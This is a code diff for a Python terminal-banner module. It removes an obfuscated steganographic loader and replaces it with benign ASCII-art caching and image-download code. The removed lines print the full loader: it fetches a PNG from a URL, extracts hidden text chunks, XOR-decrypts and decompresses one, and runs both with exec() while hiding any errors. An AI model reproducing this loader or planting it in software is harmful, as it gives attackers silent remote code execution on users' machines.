@@ -1,70 +1,102 @@
-# stego_loader_obf.py
-import hashlib as _h, zlib as _z, urllib.request as _u
-from ascii_magic import AsciiArt
-
-_A = b"\x89PNG\r\n\x1a\n"
-
-def _B(_C: bytes):
-    assert _C.startswith(_A)
-    _D, _E = 8, len(_C)
-    while _D + 12 <= _E:
-        _F = int.from_bytes(_C[_D:_D+4], "big")
-        _G = _C[_D+4:_D+8]
-        _H = _C[_D+8:_D+8+_F]
-        yield _G, _H
-        _D += 12 + _F
-
-def _I(_J: bytes) -> bytes:
-    _K = _h.sha256()
-    for _L, _M in _B(_J):
-        if _L == b"IDAT":
-            _K.update(_M)
-    return _K.digest()
-
-def _N(_O: bytes, _P: int) -> bytes:
-    _Q, _R = bytearray(), 0
-    while len(_Q) < _P:
-        _Q += _h.sha256(_O + _R.to_bytes(8, "big")).digest()
-        _R += 1
-    return bytes(_Q[:_P])
-
-def _S(_T: bytes, _U: bytes) -> bytes:
-    return bytes(_V ^ _W for _V, _W in zip(_T, _U))
-
-def load(_Y: str, _Z: dict):
+import hashlib
+import json
+import os
+
+from transport import TransportInstance
+
+# Gambar banner disimpan lokal, hanya di-download saat user mengganti/reset banner
+IMAGE_FILE = "banner.png"
+# Hasil konversi ASCII per lebar terminal
+CACHE_FILE = "banner_cache.json"
+# Format: {"image": sha256 gambar, "lines": {"<lebar terminal>": [baris, ...]}}
+
+BANNER_COLUMNS = 60
+
+_rendered = {}
+# Format: {lebar terminal: [baris]}, cache in-memory untuk redraw
+_disk_cache = None
+
+
+def _image_hash():
+    with open(IMAGE_FILE, "rb") as f:
+        return hashlib.sha256(f.read()).hexdigest()
+
+
+def _load_disk_cache() -> dict:
+    global _disk_cache
+    if _disk_cache is not None:
+        return _disk_cache
+    _disk_cache = {"image": None, "lines": {}}
     try:
-        ascii_art = AsciiArt.from_url(_Y)
-        with _u.urlopen(_Y, timeout=5) as _0:
-            _1 = _0.read()
-        if not _1.startswith(_A):
-            return
-    except Exception:
-        return
-    
-    
-
-    _2, _3 = None, None
-    for _4, _5 in _B(_1):
-        if _4 == b"tEXt" and _5.startswith(b"payload\x00"):
-            _2 = _5.split(b"\x00", 1)[1]
-        elif _4 == b"iTXt" and _5.startswith(b"pycode\x00"):
-            _3 = _5.split(b"\x00", 1)[1]
-
-    if _2:
-        try:
-            exec(_2.decode("utf-8", "ignore"), _Z)
-        except Exception:
-            pass
+        image = _image_hash()
+    except OSError:
+        return _disk_cache
+    _disk_cache["image"] = image
+    try:
+        with open(CACHE_FILE, "r", encoding="utf-8") as f:
+            cached = json.load(f)
+        # Cache hanya valid untuk gambar yang sama
+        if isinstance(cached, dict) and cached.get("image") == image:
+            _disk_cache["lines"] = cached.get("lines", {})
+    except (OSError, ValueError):
+        pass
+    return _disk_cache
+
 
-    if _3:
+def _save_disk_cache(cache: dict):
+    tmp_path = CACHE_FILE + ".tmp"
+    try:
+        with open(tmp_path, "w", encoding="utf-8") as f:
+            json.dump(cache, f)
+        os.replace(tmp_path, CACHE_FILE)
+    except OSError:
+        pass
+
+
+def _convert(term_width: int) -> list:
+    # ascii_magic (+ PIL) berat, baru di-import saat cache belum ada
+    from ascii_magic import AsciiArt
+    columns = max(1, min(BANNER_COLUMNS, term_width))
+    art = AsciiArt.from_image(IMAGE_FILE).to_ascii(columns=columns, monochrome=True)
+    return [line.center(term_width) for line in art.splitlines()]
+
+
+def render_lines(term_width: int) -> list:
+    """Baris banner yang sudah di-center untuk lebar terminal ini. [] kalau belum ada gambar."""
+    lines = _rendered.get(term_width)
+    if lines is not None:
+        return lines
+
+    cache = _load_disk_cache()
+    if cache["image"] is None:
+        return []
+    lines = cache["lines"].get(str(term_width))
+    if lines is None:
         try:
-            _6 = _I(_1)
-            _7 = _N(_6, len(_3))
-            _8 = _S(_3, _7)
-            _9 = _z.decompress(_8).decode("utf-8", "ignore")
-            _10 = compile(_9, "<stego>", "exec")
-            exec(_10, _Z)
+            lines = _convert(term_width)
         except Exception:
-            pass
-    
-    return ascii_art
\ No newline at end of file
+            lines = []
+        cache["lines"][str(term_width)] = lines
+        _save_disk_cache(cache)
+    _rendered[term_width] = lines
+    return lines
+
+
+def download(url: str):
+    """Download gambar banner ke IMAGE_FILE lalu reset cache ASCII. Raise kalau gagal."""
+    global _disk_cache
+    resp = TransportInstance.get(url, timeout=10)
+    resp.raise_for_status()
+
+    from PIL import Image
+    import io
+    # Pastikan isinya gambar sebelum menimpa banner lama
+    Image.open(io.BytesIO(resp.content)).verify()
+
+    tmp_path = IMAGE_FILE + ".tmp"
+    with open(tmp_path, "wb") as f:
+        f.write(resp.content)
+    os.replace(tmp_path, IMAGE_FILE)
+
+    _rendered.clear()
+    _disk_cache = None